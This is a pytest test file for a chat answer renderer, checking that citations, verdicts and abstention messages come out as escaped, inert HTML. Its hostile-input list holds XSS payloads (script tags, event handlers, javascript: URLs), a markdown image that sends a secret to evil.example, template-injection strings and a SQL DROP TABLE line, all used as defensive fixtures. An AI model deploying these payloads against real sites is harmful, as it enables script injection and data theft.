"""What the chat shows: chips at their sentences, reasons in words, and text that never acts."""

from __future__ import annotations

from dataclasses import replace
from html import unescape
from html.parser import HTMLParser

import pytest

from index import Article
from rag import render
from rag.records import Answer, Attribution, Citation, Claim, Conflict, Passage, Sentence

HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1>",
    "<iframe src=https://evil.example/></iframe>",
    "<form action=https://evil.example/><input name=q autofocus onfocus=window.pwned=1></form>",
    "</div></article><style>*{display:none}</style>",
    "<!-- <a href='#cite-1-1'>",
    "<![CDATA[<b>]]>",
    "![leak](https://evil.example/?q=secret)",
    "![ref][1]\n\n[1]: https://evil.example/pixel.png",
    "[click](javascript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "<https://evil.example/auto> and https://evil.example/bare, www.evil.example",
    "javascript:window.pwned=1",
    "`code` and ```\nfence\n```",
    "    indented code",
    "# heading\n> quote\n* item\n1. item\n---",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** __bold__ ~~gone~~ *em*",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${(() => { window.pwned = 1 })()} `${window.pwned=1}`",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(x\\)",
    "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp",
    '" onmouseover="window.pwned=1" title=\'x\' x="',
    "'; DROP TABLE articles; -- \\ \\n \\u003cscript\\u003e",
    "right\u202eto\u202dleft \u2066isolated\u2069",
    "null\x00 bell\x07 escape\x1b[31m lone \ud800 surrogate",
    "[99] [0] [-1] [1e3] [[1]] [^1]",
    "@everyone :smile: <@U1> #cite-1-1",
    "مرحبا <b>עולם</b> 世界 🛰️",
]

ELEMENTS = {"div", "p", "span", "a", "ul", "li", "strong", "em", "details", "summary", "br", "del"}
TEXT = "Headline\n\nThe minister said <b>no</b>.\nHe left [1] early."
ARTICLE = Article("a/one.txt", TEXT, "Headline", "The Paper", "A. Writer", "2026-01-02")


class Page(HTMLParser):
    """The elements and the visible text of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def links(self) -> list[str | None]:
        return [attributes["href"] for tag, attributes in self.elements if tag == "a"]


def citation(number: int, quote: str, article: Article = ARTICLE) -> Citation:
    start = article.text.index(quote)
    where = (article.title, article.outlet, article.published)
    return Citation(number, article.key, *where, start, start + len(quote), quote)


def passage(rank: int, start: int, end: int, article: Article = ARTICLE) -> Passage:
    where = (article.title, article.outlet, article.published)
    return Passage(rank, article.key, start, end, 0.5, article.text[start:end], *where)


def answered(*texts: str, citations: tuple[tuple[int, ...], ...] | None = None) -> Answer:
    """An answer of these sentences; each cites what `citations` gives, number 1 by default."""
    sentences, position = [], 0
    for index, text in enumerate(texts):
        numbers = citations[index] if citations else (1,)
        sentences.append(Sentence(text, position, position + len(text), numbers, "supported", 0.9))
        position += len(text) + 1
    return Answer(
        "Who?",
        "Who?",
        "answered",
        text=" ".join(texts),
        sentences=tuple(sentences),
        citations=(citation(1, "The minister said"), citation(2, "He left [1] early")),
        passages=(passage(1, 0, 8), passage(2, 10, 38)),
    )


# Escaping


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("Dushanbe blames the Taliban", "Dushanbe blames the Taliban"),
        ("“quoted” – dashed — ’", "“quoted” – dashed — ’"),
        ("<b>&", "&#60;b&#62;&#38;"),
        ("\"'`", "&#34;&#39;&#96;"),
        ("![x](y)", "&#33;&#91;x&#93;&#40;y&#41;"),
        ("javascript:", "javascript&#58;"),
        ("{{x}} ${y}", "&#123;&#123;x&#125;&#125; &#36;&#123;y&#125;"),
        ("*_~#|\\", "&#42;&#95;&#126;&#35;&#124;&#92;"),
        ("a\n\n\tb", "a b"),
        ("a\x00\u202eb\ufeff", "ab"),
        ("\ud800", "\ufffd"),
        ("", ""),
    ],
)
def test_escape(text: str, escaped: str) -> None:
    assert render.escape(text) == escaped


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_shows_and_does_nothing_else(text: str) -> None:
    hostile = Article("h.txt", text + " end", title=text, outlet=text, published=text)
    answer = replace(
        answered(text),
        question=text,
        standalone_question=text + "?",
        explanation=text,
        citations=(citation(1, text, hostile), citation(2, "end", hostile)),
        passages=(passage(1, 0, len(text), hostile),),
        conflicts=(Conflict(text, (Claim(text, 1), Claim(text, 7))),),
        removed=(text,),
    )
    shown = " ".join(unescape(render.escape(text)).split())
    for message in (
        render.message(answer, 1),
        render.message(replace(answer, status="abstained", reason="no_evidence"), 1),
    ):
        page = Page(message)
        assert shown in " ".join(page.text.split())
        assert {tag for tag, _ in page.elements} <= ELEMENTS
        assert all(set(attributes) <= {"class", "href", "title", "role"} for _, attributes in page.elements)
        assert set(page.links()) <= {"#cite-1-1", "#passage-1-1", "#undo-1"}
        assert "\n" not in message
        assert message.startswith("<div ")
        assert not set("`[]!{}$\\*_~|") & set(message)


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_leaves_only_letters_and_references(text: str) -> None:
    escaped = render.escape(text)
    assert not set("<>\"'`[](){}!*_~|\\$@:/.=") & set(escaped)


# An answer


def test_chips_stand_at_the_end_of_their_sentence() -> None:
    message = render.message(answered("It was so.", "And so.", citations=((1,), (1, 2))), 3)
    first = (
        '<a class="cite supported" href="#cite-3-1" title="Supported by the passage. The Paper · Headline · 2026&#45;01&#45;02 —&#10;'
        '“The minister said”">1</a>'
    )
    assert f"It was so&#46;\u00a0{first}</span> <span" in message
    assert Page(message).links()[:3] == ["#cite-3-1", "#cite-3-1", "#cite-3-2"]
    assert Page(message).text.startswith("It was so.\u00a01 And so.\u00a01\u00a02")


def test_what_stands_between_sentences_is_not_shown_twice() -> None:
    answer = answered("It was so.", "And so.")
    first, second = answer.sentences
    text = "It was so. [1] And so. [1]"
    moved = replace(answer, text=text, sentences=(first, replace(second, start=15, end=22)))
    assert render.message(moved, 1) == render.message(answer, 1)


def test_a_number_in_a_quoted_sentence_is_text() -> None:
    message = render.message(answered("He left [1] early [7]."), 1)
    assert "He left [1] early [7].\u00a01" in Page(message).text
    assert Page(message).links()[0] == "#cite-1-1"
    assert render.message(answered("So.", citations=((9,),)), 1).count('class="cite"') == 0


def test_what_answers_is_bold() -> None:
    answer = answered("Officials blame X loudly.")
    sentence = replace(answer.sentences[0], answer_span=(10, 17))
    message = render.message(replace(answer, sentences=(sentence,)), 1)
    assert "Officials <strong>blame X</strong> loudly&#46;\u00a0<a " in message


def test_a_paragraph_stays_a_paragraph() -> None:
    answer = answered("One.", "Two.")
    assert "</span> <span" in render.message(answer, 1)
    assert "</span><br><br><span" in render.message(replace(answer, text="One.\nTwo."), 1)


def test_verdicts_are_told_in_words_too() -> None:
    answer = answered("One.")
    unsupported = replace(answer.sentences[0], verdict="unsupported", citations=())
    message = render.message(replace(answer, sentences=(unsupported,)), 1)
    assert '<span class="unsupported">One&#46; <em class="flag">not supported</em></span>' in message


def test_a_mark_tells_what_the_article_says_and_the_first_answer_explains_it() -> None:
    answer = answered("The  minister said", "He went.", citations=((1,), (2,)))
    page = Page(render.message(answer, 1, explained=True))
    names = [(attributes["class"], attributes["title"]) for tag, attributes in page.elements if tag == "a"][:2]
    assert [name for name, _ in names] == ["cite quoted", "cite supported"]
    assert [str(title).partition(".")[0] for _, title in names] == ["Quoted word for word", "Supported by the passage"]
    assert "“” quoted word for word✓ supported by the passageA mark tells" in page.text
    assert "not that it answers your question" in page.text
    assert "✓ supported by the passageA mark" in Page(render.legend(answered("The minister said"))).text
    assert "A mark tells" not in Page(render.message(answer, 1)).text
    assert render.legend(Answer("Who?", "Who?", "abstained")) == ""


def test_the_speaker_is_named_where_the_sentence_does_not() -> None:
    answer = answered("It was so.")
    spoken = replace(answer.sentences[0], attribution=Attribution("the minister", "The Paper"))
    assert "said by the minister" in render.message(replace(answer, sentences=(spoken,)), 1)
    named = replace(spoken, text="The minister says so.")
    assert "said by" not in render.message(replace(answer, sentences=(named,)), 1)


def test_passages_are_folded_away_without_raw_figures() -> None:
    page = Page(render.message(answered("It was so."), 1))
    assert "2 passages found" in page.text
    assert "The Paper · 2026-01-02" in page.text
    assert "0.5" not in page.text
    assert page.links()[-2:] == ["#passage-1-1", "#passage-1-2"]


def test_sources_that_disagree_are_shown_side_by_side() -> None:
    conflict = Conflict(
        "the number of the dead", (Claim("seven", 1, "The mayor", "The Paper", "2026-01-02"), Claim("25", 2))
    )
    page = Page(render.message(replace(answered("It was so."), conflicts=(conflict,)), 1))
    assert "The sources disagree: the number of the dead" in page.text
    assert page.links()[1:3] == ["#cite-1-1", "#cite-1-2"]
    assert "The mayor, The Paper, 2026-01-02: seven" in page.text


def test_later_reports_are_told_as_such() -> None:
    assert "Later reports" in render.disagreement(Conflict("the toll", (), "update"))


def test_the_question_as_understood_is_shown_when_it_differs() -> None:
    assert "Understood as" not in render.message(answered("So."), 1)
    answer = replace(answered("So."), standalone_question="Who left early?")
    assert "Understood as: Who left early&#63;" in render.message(answer, 1)
    assert Page(render.message(answer, 3)).links()[0] == "#undo-3"
    assert "#undo" not in render.message(answer, 3, "writing")


def test_a_filter_that_the_words_of_the_question_set_can_be_dropped() -> None:
    told = "published since 2016-01-01, or without a date"
    answer = replace(answered("So."), filters=told)
    page = Page(render.message(answer, 3))
    assert f"Read from your question, only these articles: {told}." in page.text
    assert page.links()[0] == "#all-3"
    chosen = replace(answer, scope={"since": "2016-01-01", "words": False})
    assert "#all-3" not in Page(render.message(chosen, 3)).links()
    assert f"Only these articles: {told}" in Page(render.message(chosen, 3)).text


def test_a_sentence_that_is_still_written_is_text_and_marked_as_such() -> None:
    message = render.message(answered("So."), 1, "writing", "It was <b>so")
    assert '<p class="pending">It was &#60;b&#62;so</p>' in message
    assert "pending" not in render.message(answered("So."), 1, "done", "It was")


@pytest.mark.parametrize(
    ("reason", "heading"),
    [
        ("no_evidence", "No answer: nothing found in the articles"),
        ("insufficient_evidence", "No answer: the articles do not say"),
        ("unsupported", "No answer: nothing that the articles support"),
        ("model_unavailable", "No answer: the model cannot be reached"),
        ("model_unusable", "No answer: the model gave nothing usable"),
    ],
)
def test_each_reason_for_no_answer_has_its_words(reason: str, heading: str) -> None:
    passages = tuple(passage(rank, 0, 8) for rank in range(1, 6))
    answer = Answer("Q?", "Q?", "abstained", passages=passages, explanation="They speak of it.")
    message = render.message(replace(answer, reason=reason), 1)  # type: ignore[arg-type]
    page = Page(message)
    assert message.startswith('<div class="answer abstained">')
    assert heading in page.text
    assert "They speak of it." in page.text
    assert "The nearest passages, which do not answer it" in page.text
    assert "2 more passages" in page.text


def test_an_answer_in_the_making_shows_what_it_has() -> None:
    answer = answered("It was so [1].")
    searching = render.message(Answer("Q?", "", "answered"), 1, "searching")
    assert searching == '<div class="answer working"><p class="progress">Searching the articles…</p></div>'
    for phase, word in (("searching", "Searching"), ("reading", "Reading"), ("checking", "Checking")):
        assert word in Page(render.message(answer, 1, phase)).text
    writing = Page(render.message(answer, 1, "writing"))
    assert writing.links() == ["#cite-1-1"]
    assert "Writing…" in writing.text


def test_long_text_is_cut_between_words() -> None:
    quote = "word " * 100
    article = replace(ARTICLE, text=quote)
    shown = Page(render.message(replace(answered("So."), passages=(passage(1, 0, 500, article),)), 1)).text
    assert "word word…" in shown
    solid = replace(ARTICLE, text="x" * 500)
    shown = Page(render.message(replace(answered("So."), passages=(passage(1, 0, 500, solid),)), 1)).text
    assert "x" * 179 + "…" in shown
    assert "x" * 180 not in shown
